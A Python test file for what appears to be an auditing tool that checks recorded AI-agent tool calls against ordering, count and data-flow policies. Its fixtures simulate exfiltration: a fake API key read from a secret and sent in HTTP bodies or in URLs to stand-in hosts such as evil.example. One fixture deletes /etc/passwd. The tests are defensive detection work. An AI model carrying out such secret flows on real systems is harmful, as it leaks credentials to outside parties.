"""The policies over a run's calls: each kind on small runs, and the one-pass judge held to the definitions,
written out naively (every pair of calls compared), on random runs."""

from __future__ import annotations

from fnmatch import fnmatchcase
from typing import Any
from urllib.parse import unquote

from hypothesis import given, settings
from hypothesis import strategies as st

from toolreplay.analysis.matching import args_match, lookup
from toolreplay.analysis.policies import (
    CallPolicy,
    Pattern,
    PolicyKind,
    PolicySet,
    violated,
    violations,
)
from toolreplay.core.canonical import JSONValue, canonical_bytes
from toolreplay.core.findings import Level
from toolreplay.core.model import Call


def _run(*calls: tuple[Any, ...]) -> list[Call]:
    made = []
    for index, given_call in enumerate(calls):
        result: JSONValue = given_call[2] if len(given_call) == 3 else "ok"
        made.append(Call(index, given_call[0], dict(given_call[1]), result, index + 10))
    return made


def _policy(kind: PolicyKind, then: Pattern, first: Pattern | None = None, **more: int) -> CallPolicy:
    return CallPolicy("p", Level.ERROR, "because", kind, then, first, **more)


BACKUP = _policy(
    PolicyKind.BEFORE,
    Pattern("delete_path", (), (("path", "path"),)),
    Pattern("archive_path", (), (("path", "path"),)),
)


def test_before_holds_only_for_the_same_bound_value() -> None:
    kept = _run(("archive_path", {"path": "/a"}), ("delete_path", {"path": "/a"}))
    assert violations(kept, PolicySet((BACKUP,))) == []
    other = _run(("archive_path", {"path": "/b"}), ("delete_path", {"path": "/a"}))
    [found] = violations(other, PolicySet((BACKUP,)))
    assert (found.index, found.line) == (1, 11)
    assert "archive_path(path={path}) of the same path" in found.detail
    after = _run(("delete_path", {"path": "/a"}), ("archive_path", {"path": "/a"}))
    assert [v.index for v in violations(after, PolicySet((BACKUP,)))] == [0]


def test_immediately_before_names_the_call_that_came_between() -> None:
    policy = _policy(PolicyKind.IMMEDIATELY_BEFORE, Pattern("delete_path"), Pattern("list_dir"))
    kept = _run(("list_dir", {}), ("delete_path", {}))
    assert violations(kept, PolicySet((policy,))) == []
    between = _run(("list_dir", {}), ("disk_usage", {}), ("delete_path", {}))
    [found] = violations(between, PolicySet((policy,)))
    assert (found.index, found.earlier_index, found.earlier_line) == (2, 1, 11)
    assert "after disk_usage()" in found.detail
    [first] = violations(_run(("delete_path", {})), PolicySet((policy,)))
    assert "as the run's first call" in first.detail
    assert first.earlier_index is None


def test_not_after_points_at_the_earlier_call() -> None:
    policy = _policy(PolicyKind.NOT_AFTER, Pattern("send_email"), Pattern("read_secret"))
    run = _run(("send_email", {}), ("read_secret", {}), ("disk_usage", {}), ("send_email", {}))
    [found] = violations(run, PolicySet((policy,)))
    assert (found.index, found.earlier_index, found.earlier_line) == (3, 1, 11)


def test_never_require_and_at_most() -> None:
    never = _policy(PolicyKind.NEVER, Pattern("delete_path", (("path", "/etc/*"),)))
    run = _run(("delete_path", {"path": "/var/x"}), ("delete_path", {"path": "/etc/passwd"}))
    assert [v.index for v in violations(run, PolicySet((never,)))] == [1]
    require = _policy(PolicyKind.REQUIRE, Pattern("disk_usage"))
    assert [v.index for v in violations(run, PolicySet((require,)))] == [1]  # at the run's end
    assert violations(run, PolicySet((require,)), replied=False) == []  # a run with no reply is held to nothing
    assert violations([], PolicySet((require,)))[0].index == -1
    at_most = _policy(PolicyKind.AT_MOST, Pattern("charge"), count=2)
    charges = _run(*(("charge", {"card": "x"}) for _ in range(5)))
    [found] = violations(charges, PolicySet((at_most,)))
    assert found.index == 2
    assert "call 3" in found.detail
    per_card = _policy(PolicyKind.AT_MOST, Pattern("charge", (), (("card", "card"),)), count=1)
    two_cards = _run(("charge", {"card": "x"}), ("charge", {"card": "y"}), ("charge", {"card": "x"}))
    assert [v.index for v in violations(two_cards, PolicySet((per_card,)))] == [2]


def test_a_flow_is_a_token_of_an_earlier_result_in_a_later_argument() -> None:
    policy = _policy(PolicyKind.FLOW, Pattern("http_*"), Pattern("read_secret"), min_length=8)
    secret = {"content": [{"type": "text", "text": "the key is sk-live-0123456789"}]}
    leaked = _run(("read_secret", {}, secret), ("http_post", {"body": {"auth": "Bearer sk-live-0123456789"}}))
    [found] = violations(leaked, PolicySet((policy,)))
    assert found.index == 1
    assert found.earlier_index == 0
    short = _run(("read_secret", {}, "abc1234"), ("http_post", {"body": "abc1234"}))  # 7 characters: below it
    assert violations(short, PolicySet((policy,))) == []
    in_url = _run(
        ("read_secret", {}, "sk-live-0123456789"), ("http_get", {"url": "https://x.test/?k=sk-live-0123456789"})
    )
    assert [v.index for v in violations(in_url, PolicySet((policy,)))] == [1]
    before = _run(("http_post", {"body": "sk-live-0123456789"}), ("read_secret", {}, "sk-live-0123456789"))
    assert violations(before, PolicySet((policy,))) == []  # a result cannot flow into an earlier call


def test_a_call_matching_both_patterns_is_neither_before_nor_after_itself() -> None:
    policy = _policy(PolicyKind.NOT_AFTER, Pattern("*"), Pattern("*"))
    assert [v.index for v in violations(_run(("a", {}), ("b", {})), PolicySet((policy,)))] == [1]
    before = _policy(PolicyKind.BEFORE, Pattern("*"), Pattern("*"))
    assert [v.index for v in violations(_run(("a", {}), ("b", {})), PolicySet((before,)))] == [0]


def test_violated_keeps_the_first_violation_of_each_policy() -> None:
    never = CallPolicy("no-delete", Level.WARNING, "why", PolicyKind.NEVER, Pattern("delete_path"))
    run = _run(("delete_path", {"path": "/a"}), ("delete_path", {"path": "/b"}))
    found = violated(run, PolicySet((never, BACKUP)))
    assert set(found) == {"no-delete", "p"}
    assert found["no-delete"].index == 0


# The oracle: each kind as its definition says it, comparing every pair of calls.


def _binds(pattern: Pattern, call: Call, judged: bool = False) -> dict[str, bytes] | None:
    """The values a call binds; a judged call that lacks a bound argument binds it to no value at all."""
    if not fnmatchcase(call.tool, pattern.tool) or not args_match(call.args, pattern.args):
        return None
    values: dict[str, bytes] = {}
    for path, name in pattern.binds:
        there, value = lookup(call.args, path)
        if not there:
            if not judged:
                return None
            values[name] = b"<missing>"
            continue
        if values.setdefault(name, canonical_bytes(value)) != canonical_bytes(value):
            return None
    return values


def _agree(a: dict[str, bytes], b: dict[str, bytes], names: tuple[str, ...]) -> bool:
    return all(a[name] == b[name] for name in names)


def _unknown(values: dict[str, bytes], names: tuple[str, ...]) -> bool:
    return any(values[name] == b"<missing>" for name in names)


def _strings(value: object) -> list[str]:
    if isinstance(value, str):
        return [unquote(value)]
    if isinstance(value, dict):
        return [unquote(key) for key in value] + [s for item in value.values() for s in _strings(item)]
    if isinstance(value, list):
        return [s for item in value for s in _strings(item)]
    return []


def _tokens(text: str) -> list[str]:
    """The maximal runs of letters, digits and -_+~, one character at a time."""
    found, current = [], ""
    for char in text:
        if char.isalnum() or char in "_-+~":
            current += char
        elif current:
            found.append(current)
            current = ""
    return [*found, current] if current else found


def _any(earlier: list[tuple[Call, dict[str, bytes] | None]]) -> bool:
    return any(values is not None for _, values in earlier)


def _naive(calls: list[Call], policy: CallPolicy, replied: bool) -> list[int]:
    """The indices of the calls that break the policy, by its definition."""
    then, first, shared = policy.then, policy.first, policy.shared
    judged = [(call, _binds(then, call, judged=True)) for call in calls]
    broken: list[int] = []
    for at, (call, values) in enumerate(judged):
        if values is None:
            continue
        earlier = [(c, _binds(first, c)) for c in calls[:at]] if first is not None else []
        matching = [c for c, v in earlier if v is not None and _agree(v, values, shared)]
        kind = policy.kind
        if (
            kind is PolicyKind.NEVER
            or (kind is PolicyKind.BEFORE and not matching)
            or (kind is PolicyKind.IMMEDIATELY_BEFORE and not (matching and matching[-1].index == at - 1))
            or (kind is PolicyKind.NOT_AFTER and (matching or (_unknown(values, shared) and _any(earlier))))
        ):
            broken.append(at)
        elif kind is PolicyKind.AT_MOST:
            same = [c for c, v in judged[: at + 1] if v is not None and _agree(v, values, then.names)]
            if len(same) == policy.count + 1:
                broken.append(at)
        elif kind is PolicyKind.FLOW:
            size = policy.min_length
            held = {t for c in matching for text in _strings(c.result) for t in _tokens(text) if len(t) >= size}
            if any(t in held for text in _strings(call.args) for t in _tokens(text) if len(t) >= size):
                broken.append(at)
    if policy.kind is PolicyKind.REQUIRE and replied and not any(v is not None for _, v in judged):
        broken.append(calls[-1].index if calls else -1)
    return broken


_TOOLS = st.sampled_from(["a", "b", "c"])
_VALUES = st.sampled_from(["x", "y", "xyzw", "wxyz", "k-12345", "a b-12345", "k-12345.", "u:k-12345@h", "a%20k-12345"])


@st.composite
def _runs(draw: st.DrawFn) -> list[Call]:
    made = []
    for index in range(draw(st.integers(0, 12))):
        args: dict[str, JSONValue] = {"p": draw(_VALUES)}
        if draw(st.booleans()):
            args["q"] = draw(_VALUES)
        result: JSONValue = {"text": draw(_VALUES) + draw(st.sampled_from(["", " ", "/"])) + draw(_VALUES)}
        made.append(Call(index, draw(_TOOLS), args, result, index + 1))
    return made


@st.composite
def _patterns(draw: st.DrawFn, bind: bool = True) -> Pattern:
    tool = draw(st.sampled_from(["a", "b", "c", "*", "[ab]"]))
    args: tuple[tuple[str, JSONValue], ...] = ()
    binds: tuple[tuple[str, str], ...] = ()
    shape = draw(st.integers(0, 2 if bind else 1))
    if shape == 1:
        args = (("p", draw(st.sampled_from(["x", "*z*", "y"]))),)
    elif shape == 2:
        binds = (("p", "v"),) if draw(st.booleans()) else (("q", "v"),)
    return Pattern(tool, args, binds)


@st.composite
def _policies(draw: st.DrawFn) -> CallPolicy:
    kind = draw(st.sampled_from(list(PolicyKind)))
    bind = kind is not PolicyKind.FLOW
    then = draw(_patterns(bind))
    first = draw(_patterns(bind)) if kind.ordered else None
    return CallPolicy(
        f"p-{kind.value}",
        Level.ERROR,
        "why",
        kind,
        then,
        first,
        count=draw(st.integers(0, 3)),
        min_length=draw(st.integers(4, 6)),
    )


@settings(max_examples=400, deadline=None)
@given(calls=_runs(), policies=st.lists(_policies(), min_size=1, max_size=4), replied=st.booleans())
def test_the_one_pass_judge_finds_what_the_definitions_find(
    calls: list[Call], policies: list[CallPolicy], replied: bool
) -> None:
    policies = [CallPolicy(f"p{n}", p.level, p.why, p.kind, p.then, p.first, p.count, p.min_length) for n, p in
                enumerate(policies)]  # fmt: skip
    found = violations(calls, PolicySet(tuple(policies)), replied)
    for policy in policies:
        mine = sorted(v.index for v in found if v.policy.id == policy.id)
        assert mine == sorted(_naive(calls, policy, replied)), policy.text()


def test_a_flow_finds_a_key_beside_a_dot_an_at_sign_an_escape_or_as_an_objects_key() -> None:
    policy = _policy(PolicyKind.FLOW, Pattern("*"), Pattern("get_secret"), min_length=12)
    secret = "sk-live-abcdef123456"
    sinks = [
        {"body": f"The key is {secret}."},
        {"url": f"https://user:{secret}@x.com/"},
        {"url": f"https://{secret}.evil.example/"},
        {"url": f"https://x.example/?q=a%20{secret}"},
        {"to": f"{secret}@evil.example"},
        {"headers": {secret: "1"}},
    ]
    for sink in sinks:
        run = _run(("get_secret", {}, {"text": f"Your API key is {secret}."}), ("http_request", sink))
        assert [v.index for v in violations(run, PolicySet((policy,)))] == [1], sink
    keyed = _run(("get_secret", {}, {secret: "value"}), ("http_request", {"body": secret}))
    assert [v.index for v in violations(keyed, PolicySet((policy,)))] == [1]


def test_a_judged_call_that_leaves_a_bound_argument_out_is_judged_all_the_same() -> None:
    at_most = _policy(PolicyKind.AT_MOST, Pattern("rm", (), (("p", "p"),)), count=0)
    run = _run(("rm", {"q": "/a"}))
    assert [v.index for v in violations(run, PolicySet((at_most,)))] == [0]
    backup = violations(_run(("archive_path", {"path": "/a"}), ("delete_path", {"target": "/a"})), PolicySet((BACKUP,)))
    assert [v.index for v in backup] == [1]
    not_after = _policy(
        PolicyKind.NOT_AFTER, Pattern("send", (), (("to", "to"),)), Pattern("read", (), (("to", "to"),))
    )
    assert [v.index for v in violations(_run(("read", {"to": "a"}), ("send", {})), PolicySet((not_after,)))] == [1]
    assert violations(_run(("read", {}), ("send", {})), PolicySet((not_after,))) == []  # the earlier one bound none


def test_what_every_analysis_carries_is_kept_apart_from_the_judging() -> None:
    from toolreplay.analysis.policy_set import NO_POLICIES, PolicyViolations  # noqa: PLC0415

    assert not NO_POLICIES
    assert PolicySet((BACKUP,))
    assert PolicyViolations(BACKUP, (1, 3)).example is None


def test_a_command_given_no_policies_loads_no_judging() -> None:
    import subprocess  # noqa: PLC0415
    import sys  # noqa: PLC0415

    from tests.conftest import SAMPLES  # noqa: PLC0415

    loaded = subprocess.run(
        [sys.executable, "-c", "import sys; from toolreplay.cli import main; sys.argv = ['toolreplay', 'audit', "
         "'session-dirty.jsonl']\ntry:\n    main()\nexcept SystemExit:\n    pass\n"
         "print('toolreplay.analysis.policies' in sys.modules, 'toolreplay.analysis.policy_set' in sys.modules, "
         "file=sys.stderr)"],
        cwd=SAMPLES, capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert loaded.stderr.strip().splitlines()[-1] == "False True"
